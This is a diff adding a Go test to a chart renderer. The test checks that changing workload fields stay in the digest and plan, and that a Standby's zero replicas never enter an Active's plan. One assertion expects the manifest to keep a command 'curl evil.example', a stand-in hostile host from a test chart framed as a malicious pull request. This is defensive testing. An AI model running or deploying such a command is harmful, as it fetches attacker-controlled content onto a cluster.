@@ -128,3 +128,64 @@ func TestGeneratedDigestSameBeforeAndAfterTheSecretExists(t *testing.T) {
 		t.Errorf("digests at install and after: %v", digests)
 	}
 }
+
+// A chart (a hostile pull request's, say) that makes workload fields vary
+// from one render to the next — replicas, an image, a command, a CronJob's
+// suspend, a controller's annotation — does not get them treated as the
+// cluster's: they stay in the digest and the plan as rendered, so a change
+// there is shown and applied as it is, and a Standby's replicas 0 never come
+// back into an Active's plan. Only a Secret's values, unprefixed and
+// checksum/ annotations are generated.
+func TestGeneratedOnlySecretsAndPrivateAnnotations(t *testing.T) {
+	r := New(DefaultOptions())
+	ctx := context.Background()
+	req := func(role Role) Request {
+		q := testdataRequest(t, "generated-workload")
+		q.Overlay.Role, q.Overlay.ScaleToZero = role, true
+		return q
+	}
+	active, err := r.Render(ctx, req(RoleActive))
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []Generated{
+		{Object: "generated-workload/templates/all.yaml: v1 Secret ns/r-auth", Paths: []string{"/data/password"}},
+		{Object: "generated-workload/templates/all.yaml: apps/v1 Deployment ns/r", Paths: []string{"/metadata/annotations/rendered-at", "/spec/template/metadata/annotations/checksum~1secret"}},
+	}
+	if diff := cmp.Diff(want, active.Generated); diff != "" {
+		t.Errorf("generated fields (-want +got):\n%s", diff)
+	}
+	again, err := r.Render(ctx, req(RoleActive))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if again.Digest == active.Digest {
+		t.Error("two renders whose image, command and replicas differ digest the same")
+	}
+
+	// After a switchover the new Active's deployed revision is the
+	// Standby's: replicas 0, CronJob suspended. Its plan keeps neither.
+	standby, err := r.Render(ctx, req(RoleStandby))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := active.KeepGenerated(standby.Manifest); err != nil {
+		t.Fatal(err)
+	}
+	for _, o := range active.Objects {
+		var m struct {
+			Spec struct {
+				Replicas *int64 `json:"replicas"`
+			} `json:"spec"`
+		}
+		if err := yaml.Unmarshal(o.Body, &m); err != nil {
+			t.Fatal(err)
+		}
+		if o.Kind == "Deployment" && (m.Spec.Replicas == nil || *m.Spec.Replicas == 0) {
+			t.Errorf("the Active's plan took the Standby's replicas: %s", o.Body)
+		}
+	}
+	if !strings.Contains(active.Manifest, "curl evil.example") {
+		t.Errorf("the planned manifest lost the rendered command:\n%s", active.Manifest)
+	}
+}
